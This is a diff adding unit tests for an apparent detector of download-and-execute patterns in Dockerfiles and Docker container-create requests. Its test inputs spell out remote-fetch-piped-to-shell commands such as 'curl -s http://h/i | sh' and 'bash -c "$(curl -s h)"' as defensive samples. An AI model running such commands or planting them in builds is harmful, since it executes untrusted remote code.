@@ -220,6 +220,37 @@ static void an_interpreter_starts_a_shell(void **s)
 	check_hit("R4.6");
 }
 
+static void built(const char *dockerfile)
+{
+	docker_look(&detect_piped_shell, "/build", NULL, NULL, dockerfile);
+}
+
+static void an_image_or_container_runs_a_download(void **s)
+{
+	(void)s;
+	built("FROM x\nRUN curl -s http://h/i | sh\n");
+	check_hit("R4.4");
+	built("FROM x\nRUN curl -s http://h/i | tar x\n");
+	check_miss("R4.4");
+	docker_look(&detect_piped_shell, "/containers/create",
+		    "{\"Cmd\":[\"sh\",\"-c\",\"wget -qO- h | sh\"]}", NULL, NULL);
+	check_hit("R4.4");
+	docker_look(&detect_piped_shell, "/containers/create",
+		    "{\"Cmd\":[\"sh\",\"-c\",\"wget -qO f h; sh g\"]}", NULL, NULL);
+	check_miss("R4.4");
+}
+
+static void a_string_of_the_host_tells_what_execs_do_not(void **s)
+{
+	(void)s;
+	given("bash -c \"$(curl -s h)\"");
+	check_hit("R4.4");
+	given("curl -s h | bash"); /* both will be executed */
+	check_miss("R4.4");
+	given("bash -c \"$(cat h)\"");
+	check_miss("R4.4");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -232,6 +263,8 @@ int main(void)
 		cmocka_unit_test(a_shell_feeds_on_a_network_socket),
 		cmocka_unit_test(a_shell_that_connects_by_itself),
 		cmocka_unit_test(an_interpreter_starts_a_shell),
+		cmocka_unit_test(an_image_or_container_runs_a_download),
+		cmocka_unit_test(a_string_of_the_host_tells_what_execs_do_not),
 	};
 
 	return FACT_TESTS(tests);
